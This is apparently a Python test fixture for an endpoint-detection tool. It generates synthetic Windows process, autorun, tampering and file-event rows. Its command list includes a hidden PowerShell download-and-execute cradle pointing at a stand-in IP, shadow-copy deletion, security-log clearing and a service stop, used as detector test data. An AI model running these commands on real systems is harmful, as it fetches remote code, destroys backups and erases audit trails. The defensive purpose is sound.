"""Rows for the stories of endpoint detectors, made short; times are minutes after a Monday at midnight UTC."""

from __future__ import annotations

import random
from typing import Any

from tests.detect.behaviour.account_rows import at, ref
from tocsin.detect.behaviour.facts import Autorun, Beat, Process, Tamper, Touched

SYSTEM32 = "C:\\Windows\\System32\\"
OFFICE = "C:\\Program Files\\Microsoft Office\\root\\Office16\\"
POWERSHELL = f"{SYSTEM32}WindowsPowerShell\\v1.0\\powershell.exe"


def start(
    minutes: float,
    image: str,
    command: str = "",
    parent: str = f"{SYSTEM32}cmd.exe",
    host: str = "pc-17",
    user: str = "m.durand",
    digest: str = "",
    original: str = "",
    pid: str = "",
    ppid: str = "",
) -> Process:
    """Make a start of a program."""
    event = ref(minutes, "windows.sysmon")
    return Process(at(minutes), host, user, parent, image, command or image, digest, event, original, pid, ppid)


def autorun(minutes: float, kind: str, name: str, command: str = "", host: str = "pc-17") -> Autorun:
    """Make a thing that starts by itself."""
    return Autorun(at(minutes), host, "m.durand", kind, name, command, ref(minutes, "windows.system"))


def tamper(minutes: float, kind: str, what: str, host: str = "pc-17", user: str = "m.durand") -> Tamper:
    """Make something that blinds."""
    return Tamper(at(minutes), host, user, kind, what, ref(minutes, "windows.system"))


def touched(
    minutes: float, path: str, action: str = "create", host: str = "pc-17", image: str = "C:\\x\\a.exe"
) -> Touched:
    """Make a file made or deleted."""
    return Touched(at(minutes), host, "m.durand", image, action, path, ref(minutes, "windows.sysmon"))


def beat(minutes: float, host: str = "srv-1", source: str = "windows.sysmon") -> Beat:
    """Make what was heard of a machine in five minutes."""
    return Beat(at(minutes), host, source, 10, ref(minutes, source))


IMAGES = (
    f"{OFFICE}WINWORD.EXE",
    POWERSHELL,
    f"{SYSTEM32}svchost.exe",
    "C:\\Users\\Public\\svchost.exe",
    f"{SYSTEM32}cmd.exe",
)
LINES = (
    "powershell -nop -w hidden IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.7/a')",
    "cmd /c dir",
    "vssadmin delete shadows /all /quiet",
    "wevtutil cl Security",
    "net stop sqlserver",
    "svchost.exe -k netsvcs",
)


def any_row(rng: random.Random, minutes: float) -> Any:
    """Make a row of any kind, of few machines."""
    host = f"pc-{rng.randrange(4)}"
    return rng.choice(
        (
            lambda: start(
                minutes,
                rng.choice(IMAGES),
                rng.choice(LINES),
                rng.choice(IMAGES),
                host,
                digest=f"{rng.randrange(9):064x}",
            ),
            lambda: autorun(
                minutes,
                rng.choice(("service", "task", "wmi", "runkey")),
                f"n{rng.randrange(9)}",
                rng.choice(LINES),
                host,
            ),
            lambda: tamper(minutes, rng.choice(("cleared", "stopped", "disabled", "off", "catalog")), "Security", host),
            lambda: touched(minutes, f"D:\\d{rng.randrange(9)}\\a{rng.randrange(999)}.docx.k7", host=host),
            lambda: beat(minutes // 5 * 5, host, rng.choice(("windows.sysmon", "windows.security"))),
        )
    )()
